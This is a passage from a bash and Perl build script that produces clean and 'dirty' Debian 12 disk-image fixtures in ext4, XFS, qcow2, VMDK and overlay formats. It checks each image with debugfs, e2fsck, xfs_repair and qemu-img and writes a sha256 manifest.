		for my $r (sort(keys %o), grep { !exists $o{$_} } sort keys %n) {
			die "path not expressible for debugfs: $r\n" if $r =~ /[\s"\\]/;
			my ($a, $b) = ($o{$r}, $n{$r});
			if (!$b) { push @rm, $r; next }
			if (!$a) { push @add, $r; next }
			if (kind($a) != kind($b)) { push @rm, $r; push @add, $r; next }
			my $k = kind($b);
			if ($k == 0100000 && !same_file("$old$r", "$new$r")) { push @rm, $r; push @add, $r; next }
			if ($k == 0120000 && readlink("$old$r") ne readlink("$new$r")) { push @rm, $r; push @add, $r; next }
			if (($k == 0020000 || $k == 0060000) && $a->[6] != $b->[6]) { push @rm, $r; push @add, $r; next }
			push @meta, $r if $a->[2] != $b->[2] || $a->[4] != $b->[4] || $a->[5] != $b->[5];
		}
		open(my $c, ">", $cmds) or die; open(my $v, ">", $checks) or die; open(my $map, ">", "$checks.files") or die;
		for my $r (reverse sort @rm) { print $c (kind($o{$r}) == 0040000 ? "rmdir" : "rm") . " \"$r\"\n" }
		my $nd = 0;
		for my $r (sort @add) { my $st = $n{$r}; my $k = kind($st);
			my ($dir, $name) = $r =~ m{^(.*)/([^/]+)$}; $dir = "/" if $dir eq "";
			if ($k == 0040000) { print $c "mkdir \"$r\"\n" }
			elsif ($k == 0100000) {
				die "hard link added: $r\n" if $st->[3] > 1;
				print $c "cd \"$dir\"\nwrite \"$new$r\" \"$name\"\ncd /\n";
				print $v "dump \"$r\" \"$dumpdir/$nd\"\n"; print $map "$nd\t$new$r\n"; $nd++;
			}
			elsif ($k == 0120000) { print $c "symlink \"$r\" \"" . readlink("$new$r") . "\"\n" }
			elsif ($k == 0010000) { print $c "mknod \"$r\" p\n" }
			elsif ($k == 0020000 || $k == 0060000) {
				my $rd = $st->[6]; my $maj = (($rd >> 8) & 0xfff) | (($rd >> 32) & ~0xfff); my $min = ($rd & 0xff) | (($rd >> 12) & ~0xff);
				print $c "mknod \"$r\" " . ($k == 0020000 ? "c" : "b") . " $maj $min\n" }
			else { die "cannot add $r: socket or unknown type\n" }
			push @meta, $r;
		}
		open(my $meta, ">", "$checks.meta") or die; my %dirs;
		for my $r (@meta) { my $st = $n{$r};
			my ($dir) = $r =~ m{^(.*)/[^/]+$}; $dirs{$dir eq "" ? "/" : $dir} = 1;
			printf $meta "%s\t%06o\t%d\t%d\n", $r, $st->[2], $st->[4], $st->[5];
			printf $c "sif \"%s\" mode 0%o\nsif \"%s\" uid %d\nsif \"%s\" gid %d\nsif \"%s\" mtime \@%d\n",
				$r, $st->[2], $r, $st->[4], $r, $st->[5], $r, $st->[9];
		}
		print $v "ls -p \"$_\"\n" for sort keys %dirs;
		printf STDERR "tree_diff: %d removed, %d added, %d metadata changes\n", scalar @rm, scalar @add, scalar @meta;
	' "$@"
}

# debugfs_run IMAGE CMDS runs debugfs commands and fails on any error message
# (debugfs itself exits 0 after failed commands).
debugfs_run() {
	local err
	err=$(debugfs -w -f "$2" "$1" 2>&1 >/dev/null | grep -v '^debugfs [0-9.]* (' || true)
	[ -z "$err" ] || die "debugfs on $1: $err"
}

# debian12-dirty.raw = debian12-clean.raw changed with debugfs to hold the
# dirty tree: the file systems then share every block the changes did not
# touch, so overlay.qcow2 holds only those. The written files are dumped back
# and compared (content, mode, owner), and e2fsck checks the result.
img_dirty_derived() {
	local img=$work/debian12-dirty.raw v=$work/dirty-verify n src
	cp --sparse=always "$work/debian12-clean.raw" "$img"
	mkdir -p "$v"
	tree_diff "$clean" "$dirty" "$work/dirty.debugfs" "$work/dirty.check" "$v"
	debugfs_run "$img" "$work/dirty.debugfs"
	e2fsck -fn "$img" >/dev/null || die "e2fsck: debian12-dirty.raw is inconsistent after debugfs"
	debugfs -f "$work/dirty.check" "$img" 2>/dev/null >"$work/dirty.check.out"
	while IFS=$'\t' read -r n src; do
		cmp -s "$v/$n" "$src" || die "debian12-dirty.raw: ${src#"$dirty"} differs from the tree"
	done <"$work/dirty.check.files"
	# ls -p lines read /INODE/MODE/UID/GID/NAME/SIZE/ after the echoed command.
	perl -e '
		my ($out, $meta) = @ARGV; my (%got, $dir);
		open(my $o, "<", $out) or die; while (<$o>) { chomp;
			if (/^debugfs: ls -p "(.*)"$/) { $dir = $1 eq "/" ? "" : $1; next }
			$got{"$dir/$5"} = "$2\t$3\t$4" if m{^/(\d+)/([0-7]+)/(\d+)/(\d+)/(.*)/\d*/$};
		}
		open(my $m, "<", $meta) or die; my $bad = 0; while (<$m>) { chomp;
			my ($p, $want) = split(/\t/, $_, 2);
			my $g = $got{$p} // "missing";
			if ($g ne $want) { print STDERR "$p: mode/uid/gid in the image $g, in the tree $want\n"; $bad++ }
		}
		exit($bad ? 1 : 0);
	' "$work/dirty.check.out" "$work/dirty.check.meta" || die "debian12-dirty.raw: metadata differs from the tree (see above)"
	rm -rf "$v"
}

# xfs_proto ROOT prints an mkfs.xfs protofile for the tree at ROOT on stdout,
# the skipped entries on fd 3 and the sticky directories on fd 4. The format
# cannot express: names or symlink targets with white space or a leading ':',
# sockets, the sticky bit (set afterwards with xfs_db), hard links (each link
# becomes its own copy), timestamps and extended attributes.
xfs_proto() {
	perl -e '
		use strict; use warnings;
		my $root = shift;
		open(my $skip, ">&=", 3) or die "fd 3: $!";
		open(my $sticky, ">&=", 4) or die "fd 4: $!";
		sub mode { my ($t, $m) = @_;
			return $t . (($m & 04000) ? "u" : "-") . (($m & 02000) ? "g" : "-") . sprintf("%03o", $m & 0777) }
		sub bad { my $s = shift; return $s eq "" || $s eq "\$" || $s =~ /\s/ || $s =~ /^:/ }
		sub walk { my ($dir, $rel, $depth) = @_;
			opendir(my $dh, $dir) or die "$dir: $!";
			my @names = sort grep { $_ ne "." && $_ ne ".." } readdir($dh);
			closedir($dh);
			my $ind = "  " x $depth;
			for my $n (@names) {
				my $p = "$dir/$n"; my $r = "$rel/$n";
				my @st = lstat($p) or die "$p: $!";
				my ($m, $uid, $gid, $rdev) = ($st[2], $st[4], $st[5], $st[6]);
				if (bad($n)) { print $skip "$r\tname not expressible in a protofile\n"; next }
				my $ids = "$uid $gid";
				if (-l _) {
					my $t = readlink($p) // die "$p: $!";
					if (bad($t)) { print $skip "$r\tsymlink target not expressible\n"; next }
					print "$ind$n l--777 $ids $t\n";
				} elsif (-d _) {
					print $sticky "$r\n" if $m & 01000;
					print "$ind$n " . mode("d", $m) . " $ids\n";
					walk($p, $r, $depth + 1);
					print "$ind\$\n";
				} elsif (-f _) {
					if (bad($p)) { print $skip "$r\tpath not expressible\n"; next }
					print "$ind$n " . mode("-", $m) . " $ids $p\n";
				} elsif (-c _ || -b _) {
					my $maj = (($rdev >> 8) & 0xfff) | (($rdev >> 32) & ~0xfff);
					my $min = ($rdev & 0xff) | (($rdev >> 12) & ~0xff);
					print "$ind$n " . mode(-c _ ? "c" : "b", $m) . " $ids $maj $min\n";
				} elsif (-p _) {
					print "$ind$n " . mode("p", $m) . " $ids\n";
				} else {
					print $skip "$r\tsocket or other type\n";
				}
			}
		}
		my @st = lstat($root) or die "$root: $!";
		print "vmtrust-fixture\n0 0\n" . mode("d", $st[2]) . " $st[4] $st[5]\n";
		walk($root, "", 1);
		print "\$\n";
	' "$1"
}

img_xfs() { # img_xfs ROOT NAME
	local img=$work/$2.raw d mode
	xfs_proto "$1" >"$work/$2.proto" 3>"$tmp/expected/$2.skipped" 4>"$work/$2.sticky"
	truncate -s $((FS_SIZE_MIB * MIB)) "$img"
	mkfs.xfs -q -f -L root -m uuid="$FS_UUID" -p "$work/$2.proto" "$img"
	while read -r d; do
		mode=$(stat -c %a "$1$d")
		xfs_db -x -c "path $d" -c "write core.mode 04$mode" "$img" >/dev/null
	done <"$work/$2.sticky"
	xfs_repair -n "$img" >/dev/null 2>&1 || die "xfs_repair -n: $2 is inconsistent"
}

# overlay.qcow2: debian12-clean.qcow2 as its (relative) backing file, holding
# only the 64 KiB clusters where the dirty disk differs from the clean one.
# qemu-img convert -B copies every allocated cluster of a raw source, so the
# differing clusters are written with qemu-io, and qemu-img compare checks the
# result against the dirty disk.
img_overlay() {
	local chunks=$work/overlay-chunks
	mkdir -p "$chunks"
	(cd "$tmp" && qemu-img create -q -f qcow2 -b debian12-clean.qcow2 -F qcow2 overlay.qcow2)
	perl -e '
		use strict; use warnings;
		my ($a, $b, $dir) = @ARGV; my $cl = 65536;
		open(my $fa, "<:raw", $a) or die "$a: $!"; open(my $fb, "<:raw", $b) or die "$b: $!";
		my ($off, $run, $buf, $n) = (0, undef, "", 0);
		my $flush = sub {
			return unless defined $run;
			my $f = "$dir/$n"; $n++;
			open(my $o, ">:raw", $f) or die "$f: $!"; print $o $buf; close($o) or die;
			printf "write -q -s %s %d %d\n", $f, $run, length($buf);
			($run, $buf) = (undef, "");
		};
		while (1) {
			my $ra = read($fa, my $x, $cl) // die; my $rb = read($fb, my $y, $cl) // die;
			last if $ra == 0 && $rb == 0;
			die "sizes differ\n" if $ra != $rb;
			if ($x ne $y) { $run //= $off; $buf .= $y; $flush->() if length($buf) >= 64 * $cl }
			else { $flush->() }
			$off += $ra;
		}
		$flush->();
		print "quit\n";
	' "$work/debian12-clean.raw" "$work/debian12-dirty.raw" "$chunks" >"$work/overlay.qemu-io"
	(cd "$tmp" && qemu-io -f qcow2 overlay.qcow2 <"$work/overlay.qemu-io" >/dev/null)
	(cd "$tmp" && qemu-img compare -q overlay.qcow2 "$work/debian12-dirty.raw") || die "overlay.qcow2 does not read as the dirty disk"
	[ "$(qemu-img info --output=json "$tmp/overlay.qcow2" | sed -n 's/.*"backing-filename": "\(.*\)".*/\1/p')" = debian12-clean.qcow2 ] ||
		die "overlay.qcow2: backing file name is not the relative debian12-clean.qcow2"
	rm -rf "$chunks"
}

convert() { # convert SRC DST qemu-img-options...
	local src=$1 dst=$2
	shift 2
	qemu-img convert -O "$@" "$work/$src.raw" "$tmp/$dst"
}

# --- the build ------------------------------------------------------------------------

stage "debootstrap bookworm (+ $DEB_INCLUDE) beside the RPM root"
pool_run debootstrap build_debian_base
pool_run rpm-root build_rpm_root
pool_wait

stage "Debian roots: clean and dirty"
cp -a "$work/base" "$tmp/rootfs/debian12-clean"
mv "$work/base" "$tmp/rootfs/debian12-dirty"
customize_clean "$tmp/rootfs/debian12-clean"
customize_dirty "$tmp/rootfs/debian12-dirty"
dpkg_expected "$tmp/rootfs/debian12-clean" >"$tmp/expected/debian12-clean.dpkg"
dpkg_expected "$tmp/rootfs/debian12-dirty" >"$tmp/expected/debian12-dirty.dpkg"
cmp -s "$tmp/expected/debian12-clean.dpkg" "$tmp/expected/debian12-dirty.dpkg" || die "clean and dirty package lists differ"
write_planted >"$tmp/expected/debian12-dirty.planted"
(cd "$tmp/rootfs/debian12-dirty" && ls -1d boot/vmlinuz-* usr/lib/modules/*) >"$tmp/expected/debian12.kernels"

stage "file systems: ext4 (bare, GPT, MBR) and XFS"
clean=$tmp/rootfs/debian12-clean dirty=$tmp/rootfs/debian12-dirty
bare_pair() {
	img_bare "$clean" debian12-clean
	img_dirty_derived
}
pool_run bare bare_pair
pool_run dirty-gpt img_gpt "$dirty" debian12-dirty-gpt bios
pool_run clean-gpt img_gpt "$clean" debian12-clean-gpt efi
pool_run dirty-mbr img_mbr "$dirty" debian12-dirty-mbr
pool_run dirty-xfs img_xfs "$dirty" debian12-dirty-xfs
pool_wait

stage "qemu-img: qcow2 (zlib, zstd, v2), VMDK, overlay"
pool_run clean.qcow2 convert debian12-clean debian12-clean.qcow2 qcow2 -c
pool_run dirty.qcow2 convert debian12-dirty debian12-dirty.qcow2 qcow2 -c
pool_run dirty-zstd.qcow2 convert debian12-dirty debian12-dirty-zstd.qcow2 qcow2 -c -o compression_type=zstd
pool_run dirty-v2.qcow2 convert debian12-dirty debian12-dirty-v2.qcow2 qcow2 -o compat=0.10
pool_run dirty-gpt.qcow2 convert debian12-dirty-gpt debian12-dirty-gpt.qcow2 qcow2 -c
pool_run clean-gpt.qcow2 convert debian12-clean-gpt debian12-clean-gpt.qcow2 qcow2 -c
pool_run dirty-mbr.qcow2 convert debian12-dirty-mbr debian12-dirty-mbr.qcow2 qcow2 -c
pool_run dirty-xfs.qcow2 convert debian12-dirty-xfs debian12-dirty-xfs.qcow2 qcow2 -c
pool_run dirty.vmdk convert debian12-dirty debian12-dirty.vmdk vmdk
pool_run dirty-stream.vmdk convert debian12-dirty debian12-dirty-stream.vmdk vmdk -o subformat=streamOptimized
pool_wait
img_overlay
mv "$work/debian12-dirty.raw" "$tmp/debian12-dirty.raw"

stage "manifest"
# One line per fixture file: name, then its description. Every regular file
# in the fixture directory outside rootfs/ must be described here.
describe() {
	case $1 in
	debian12-dirty.raw) echo "dirty Debian 12 root: bare ext4 (no partition table), raw, ${FS_SIZE_MIB} MiB sparse; debian12-clean's file system changed with debugfs" ;;
	debian12-dirty.qcow2) echo "dirty root: bare ext4 in qcow2 v3, zlib-compressed clusters" ;;
	debian12-dirty-zstd.qcow2) echo "dirty root: bare ext4 in qcow2 v3, zstd-compressed clusters" ;;
	debian12-dirty-v2.qcow2) echo "dirty root: bare ext4 in qcow2 version 2 (compat=0.10), uncompressed" ;;
	debian12-dirty-gpt.qcow2) echo "dirty root: GPT, p1 BIOS boot (1 MiB at 1 MiB), p2 Linux filesystem ext4 at 2 MiB; qcow2 zlib" ;;
	debian12-dirty-mbr.qcow2) echo "dirty root: MBR, p1 FAT16 type 0x0e (8 MiB at 1 MiB), p2 extended at 9 MiB, p5 logical ext4 at 10 MiB; qcow2 zlib" ;;
	debian12-dirty.vmdk) echo "dirty root: bare ext4 in VMDK monolithicSparse" ;;
	debian12-dirty-stream.vmdk) echo "dirty root: bare ext4 in VMDK streamOptimized" ;;
	debian12-dirty-xfs.qcow2) echo "dirty root: bare XFS (v5, mkfs.xfs -p protofile) in qcow2 zlib; see expected/debian12-dirty-xfs.skipped" ;;
	overlay.qcow2) echo "qcow2 overlay reading as debian12-dirty.raw; backing file debian12-clean.qcow2 (relative name), only differing clusters" ;;
	debian12-clean.qcow2) echo "clean Debian 12 root: bare ext4 in qcow2 v3 zlib; backing file of overlay.qcow2" ;;
	debian12-clean-gpt.qcow2) echo "clean root: GPT, p1 EFI System FAT12 (1 MiB at 1 MiB), p2 Linux root x86-64 ext4 at 2 MiB; qcow2 zlib" ;;
	rocky-rpm.qcow2) echo "Rocky Linux 9.3-like root with a sqlite rpmdb at $RPM_DB/rpmdb.sqlite: bare ext4 (64 MiB) in qcow2 zlib" ;;
	expected/debian12-clean.dpkg | expected/debian12-dirty.dpkg) echo "dpkg-query -W: Package, Version, Architecture, source:Package, source:Version (tab-separated, sorted)" ;;
	expected/rocky-rpm.rpm) echo "rpm -qa: NAME, EPOCHNUM:VERSION-RELEASE, ARCH, SOURCERPM (tab-separated, sorted)" ;;
	expected/debian12-dirty.planted) echo "planted findings in the dirty root: path, kind, note (tab-separated)" ;;
	expected/debian12.kernels) echo "kernel files in both Debian roots (boot/vmlinuz-*, usr/lib/modules/*)" ;;
	expected/*.sfdisk) echo "sfdisk -d of the partition table" ;;
	expected/debian12-dirty-xfs.skipped) echo "entries of the dirty root not in the XFS image (protofile limits): path, reason" ;;
	*) return 1 ;;
	esac
}
json_str() { # a JSON string: the descriptions and names hold no control characters
	local s=${1//\\/\\\\}
	printf '"%s"' "${s//\"/\\\"}"
}
rm -rf "$work"
# Every file outside rootfs/, and its sha256 ($max_jobs files at a time).
mapfile -t files < <(cd "$tmp" && find . -path ./rootfs -prune -o -type f -printf '%P\n' | sort)
declare -A sums=()
while read -r sum f; do
	sums[$f]=$sum
done < <(cd "$tmp" && printf '%s\0' "${files[@]}" | xargs -0 -r -n 2 -P "$max_jobs" sha256sum --)
{
	printf '{\n  "recipe": "%s",\n  "mirror": %s,\n  "created": "%s",\n' "$recipe" "$(json_str "$mirror")" "$(date -u +%Y-%m-%dT%H:%M:%SZ)"
	printf '  "roots": ["rootfs/debian12-clean", "rootfs/debian12-dirty", "rootfs/rocky-rpm"],\n  "files": [\n'
	sep=''
	for f in "${files[@]}"; do
		desc=$(describe "$f") || die "no description for fixture file $f: add it to describe() in $script"
		[[ ${sums[$f]:-} =~ ^[0-9a-f]{64}$ ]] || die "sha256sum of $f failed"
		printf '%s    {"name": %s, "sha256": "%s", "size": %d, "description": %s}' \
			"$sep" "$(json_str "$f")" "${sums[$f]}" "$(stat -c %s -- "$tmp/$f")" "$(json_str "$desc")"
		sep=$',\n'
	done
	printf '\n  ]\n}\n'
} >"$tmp/manifest.json.part"
mv "$tmp/manifest.json.part" "$tmp/manifest.json"

mv -T "$tmp" "$out"
trap - EXIT
stage "built $out"
printf '%s\n' "$out"
